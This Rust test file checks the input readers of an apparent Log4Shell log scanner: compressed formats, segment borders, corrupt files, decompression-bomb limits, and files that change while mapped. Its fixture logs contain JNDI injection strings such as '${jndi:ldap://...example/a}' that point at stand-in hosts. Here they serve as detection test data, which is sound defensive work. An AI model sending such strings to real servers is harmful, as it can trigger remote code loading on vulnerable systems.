//! Tests of the input readers: every container format, folders, failures and segment borders.

use std::io::Write;
use std::sync::Mutex;

use super::*;

#[derive(Default)]
struct Collect {
    hits: Mutex<Vec<(String, Hit)>>,
    warnings: Mutex<Vec<String>>,
}

impl HuntObserver for Collect {
    fn on_hits(&self, input: &Input, hits: Vec<Hit>) {
        let mut all = self.hits.lock().unwrap();
        all.extend(hits.into_iter().map(|h| (input.to_string(), h)));
    }
    fn on_warning(&self, warning: InputWarning) {
        self.warnings.lock().unwrap().push(warning.to_string());
    }
}

fn log_text() -> String {
    let mut log = String::new();
    for i in 0..5_000 {
        if i % 1_000 == 7 {
            log.push_str(&format!("{i} GET /?x=${{jndi:ldap://h{i}.example/a}}\n"));
        } else {
            log.push_str("10.0.0.1 - - [10/Dec/2021] \"GET /static/app.js HTTP/1.1\" 200 1234\n");
        }
    }
    log
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn compressed(format: Compression, data: &[u8]) -> Vec<u8> {
    match format {
        Compression::Plain => data.to_vec(),
        // Two members, as `cat a.gz b.gz` makes: both must be read.
        Compression::Gzip => {
            let half = data.len() / 2;
            let cut = half + data[half..].iter().position(|&b| b == b'\n').unwrap() + 1;
            [gzip(&data[..cut]), gzip(&data[cut..])].concat()
        }
        Compression::Zstd => zstd::encode_all(data, 1).unwrap(),
        Compression::Bzip2 => {
            let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
            e.write_all(data).unwrap();
            e.finish().unwrap()
        }
        Compression::Xz => {
            let mut e = liblzma::write::XzEncoder::new(Vec::new(), 1);
            e.write_all(data).unwrap();
            e.finish().unwrap()
        }
    }
}

fn scan(bytes: Vec<u8>, options: &InputOptions) -> (Result<Compression, String>, Vec<Hit>) {
    let mut hits = Vec::new();
    let result = hunt_reader(
        &Hunter::default(),
        Box::new(Cursor::new(bytes)),
        options,
        &mut |h| hits.extend(h),
        &|_| {},
    );
    (
        result.map(|(c, _)| c).map_err(|f| f.error.to_string()),
        hits,
    )
}

#[test]
fn every_format_by_content_gives_the_same_hits() {
    let log = log_text();
    let (_, expected) = scan(log.clone().into_bytes(), &InputOptions::default());
    assert_eq!(expected.len(), 5);
    for format in [
        Compression::Plain,
        Compression::Gzip,
        Compression::Zstd,
        Compression::Bzip2,
        Compression::Xz,
    ] {
        let (detected, hits) = scan(compressed(format, log.as_bytes()), &InputOptions::default());
        assert_eq!(detected, Ok(format));
        assert_eq!(hits, expected, "{format:?}");
    }
}

#[test]
fn small_segments_agree_with_one_scan() {
    let log = log_text();
    let mut expected = Vec::new();
    let summary = Hunter::default().scan_bytes(log.as_bytes(), |h| expected.push(h));
    let options = InputOptions {
        segment_bytes: 1, // raised to the 64 KiB floor
        ..InputOptions::default()
    };
    let mut hits = Vec::new();
    let (_, streamed) = hunt_reader(
        &Hunter::default(),
        Box::new(Cursor::new(log.into_bytes())),
        &options,
        &mut |h| hits.extend(h),
        &|_| {},
    )
    .unwrap();
    assert_eq!(hits, expected);
    assert_eq!(streamed, summary);
}

#[test]
fn corrupt_input_warns_and_keeps_earlier_hits() {
    let log = log_text();
    let mut bytes = gzip(log.as_bytes());
    let len = bytes.len();
    bytes.truncate(len * 3 / 4);
    let options = InputOptions {
        segment_bytes: 1 << 16,
        ..InputOptions::default()
    };
    let (result, hits) = scan(bytes, &options);
    let message = result.unwrap_err();
    assert!(
        message.contains("gzip content failed after line"),
        "{message}"
    );
    assert!(!hits.is_empty());
}

#[test]
fn compression_bombs_stop_at_the_limit() {
    let bomb = zstd::encode_all(&vec![b'a'; 8 << 20][..], 3).unwrap();
    assert!(bomb.len() < 4096);
    let options = InputOptions {
        max_decompressed_bytes: 1 << 20,
        ..InputOptions::default()
    };
    let (result, _) = scan(bomb, &options);
    assert!(result.unwrap_err().contains("inflates past 1048576 bytes"));
    // Exactly at the limit is fine.
    let exact = zstd::encode_all(&vec![b'a'; 1 << 20][..], 3).unwrap();
    assert_eq!(scan(exact, &options).0, Ok(Compression::Zstd));
}

#[test]
fn folders_are_walked_and_bad_files_are_warnings() {
    let dir = tempfile::tempdir().unwrap();
    let nested = dir.path().join("a/b");
    std::fs::create_dir_all(&nested).unwrap();
    let log = log_text();
    std::fs::write(dir.path().join("access.log"), &log).unwrap();
    std::fs::write(nested.join("old.log.1"), gzip(log.as_bytes())).unwrap();
    std::fs::write(nested.join("broken.gz"), [0x1f, 0x8b, 8, 0, 1, 2, 3]).unwrap();
    let missing = dir.path().join("missing.log");
    let (inputs, warnings) = expand_paths(&[dir.path().to_path_buf(), missing]);
    assert_eq!(inputs.len(), 3);
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].to_string().contains("cannot open it"));

    let observer = Collect::default();
    let totals = hunt_inputs(
        &Hunter::default(),
        &inputs,
        &InputOptions::default(),
        &observer,
    );
    assert_eq!(totals.files, 3);
    assert_eq!(totals.compressed_files, 2);
    assert_eq!(totals.failed_files, 1);
    assert_eq!(totals.scan.hits, 10);
    assert_eq!(observer.hits.lock().unwrap().len(), 10);
    let warnings = observer.warnings.lock().unwrap();
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].contains("broken.gz"), "{warnings:?}");
}

#[cfg(target_os = "linux")]
mod mapped {
    use super::*;

    fn temp_log(text: &[u8]) -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("access.log");
        std::fs::write(&path, text).unwrap();
        (dir, path)
    }

    fn hunt_file(path: &Path, options: &InputOptions) -> (Vec<Hit>, HuntTotals, Vec<String>) {
        let observer = Collect::default();
        let totals = hunt_input(
            &Hunter::default(),
            &Input::File(path.to_path_buf()),
            options,
            &observer,
        );
        let hits = observer.hits.into_inner().unwrap();
        let warnings = observer.warnings.into_inner().unwrap();
        (hits.into_iter().map(|(_, h)| h).collect(), totals, warnings)
    }

    fn read(bytes: &[u8], options: &InputOptions) -> (Vec<Hit>, ScanSummary) {
        let mut hits = Vec::new();
        let (_, summary) = hunt_reader(
            &Hunter::default(),
            Box::new(Cursor::new(bytes.to_vec())),
            options,
            &mut |h| hits.extend(h),
            &|_| {},
        )
        .unwrap();
        (hits, summary)
    }

    #[test]
    fn mapped_files_give_what_reading_gives() {
        let small = InputOptions {
            segment_bytes: 1 << 16,
            ..InputOptions::default()
        };
        // A line longer than a segment, and no newline at the end.
        let long_line = format!("{} ${{jndi:ldap://long.example/a}}\n", "x".repeat(200_000));
        let mut texts = vec![
            log_text(),
            log_text() + &long_line + "tail ${jndi:rmi://t/x}",
        ];
        texts.push(log_text().repeat(3));
        for text in texts {
            for options in [InputOptions::default(), small] {
                let (_dir, path) = temp_log(text.as_bytes());
                let (hits, totals, warnings) = hunt_file(&path, &options);
                let (expected, summary) = read(text.as_bytes(), &options);
                assert!(warnings.is_empty(), "{warnings:?}");
                assert_eq!(hits, expected);
                assert_eq!(totals.scan, summary);
            }
        }
    }

    #[test]
    fn a_file_cut_short_while_mapped_is_a_warning_not_a_crash() {
        let text = log_text().repeat(8);
        let (_dir, path) = temp_log(text.as_bytes());
        let file = File::open(&path).unwrap();
        let mapped = MappedFile::new(&file).unwrap();
        // As `copytruncate` does: the pages past the new end are gone from the mapping, and
        // touching them would raise SIGBUS.
        File::options()
            .write(true)
            .open(&path)
            .unwrap()
            .set_len(20_000)
            .unwrap();
        let options = InputOptions {
            segment_bytes: 1 << 16,
            ..InputOptions::default()
        };
        let mut hits = Vec::new();
        let failure = hunt_mapped(
            &Hunter::default(),
            file,
            &mapped,
            &options,
            &mut |h| hits.extend(h),
            &|_| {},
        )
        .unwrap_err();
        assert!(mapped.shrank());
        assert!(
            failure
                .error
                .to_string()
                .contains("it shrank while it was read"),
            "{}",
            failure.error
        );
        // The hits before the cut, from the first segment, were reported.
        let (expected, _) = read(&text.as_bytes()[..20_000], &options);
        assert!(!expected.is_empty());
        assert_eq!(hits[..expected.len()], expected[..]);
    }

    #[test]
    fn a_file_grown_while_mapped_is_read_to_its_end() {
        let text = log_text();
        let (_dir, path) = temp_log(text.as_bytes());
        let file = File::open(&path).unwrap();
        let mapped = MappedFile::new(&file).unwrap();
        let appended = "late ${jndi:ldap://late.example/a}\n";
        std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .unwrap()
            .write_all(appended.as_bytes())
            .unwrap();
        let mut hits = Vec::new();
        let (_, summary) = hunt_mapped(
            &Hunter::default(),
            file,
            &mapped,
            &InputOptions::default(),
            &mut |h| hits.extend(h),
            &|_| {},
        )
        .unwrap();
        let (expected, expected_summary) =
            read((text + appended).as_bytes(), &InputOptions::default());
        assert_eq!(hits, expected);
        assert_eq!(summary, expected_summary);
        assert_eq!(
            hits.last().unwrap().target_host.as_deref(),
            Some("late.example")
        );
    }

    #[test]
    fn truncating_during_a_hunt_never_kills_it() {
        let text = log_text().repeat(40);
        let options = InputOptions {
            segment_bytes: 1 << 16,
            ..InputOptions::default()
        };
        for round in 0..4 {
            let (_dir, path) = temp_log(text.as_bytes());
            let cutter = {
                let path = path.clone();
                std::thread::spawn(move || {
                    std::thread::sleep(std::time::Duration::from_micros(200 * round));
                    File::options()
                        .write(true)
                        .open(&path)
                        .unwrap()
                        .set_len(1000)
                        .unwrap();
                })
            };
            let (_, totals, warnings) = hunt_file(&path, &options);
            cutter.join().unwrap();
            // Either the hunt finished first, or it saw the file shrink.
            assert!(
                warnings.is_empty() || warnings[0].contains("it shrank while it was read"),
                "{warnings:?}"
            );
            assert_eq!(totals.files, 1);
        }
    }
}
